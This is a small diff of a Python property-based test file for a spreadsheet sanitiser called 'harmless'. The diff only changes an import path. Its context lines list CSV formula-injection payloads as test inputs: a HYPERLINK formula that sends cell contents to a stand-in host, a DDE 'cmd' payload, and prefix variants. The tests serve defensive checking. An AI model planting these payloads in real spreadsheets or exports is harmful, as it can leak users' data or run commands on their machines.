@@ -7,7 +7,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from ingest.deliveries import HOURLY, Platform, call, csv_bytes
 
-from orchestration.lake.spreadsheet import harmless
+from kdi.notation.spreadsheet import harmless
 
 ATTACKS = [
     "=HYPERLINK(\"http://ond.example?\"&A1;\"Klik\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;1)", "\t=1+1", "\r=1+1",
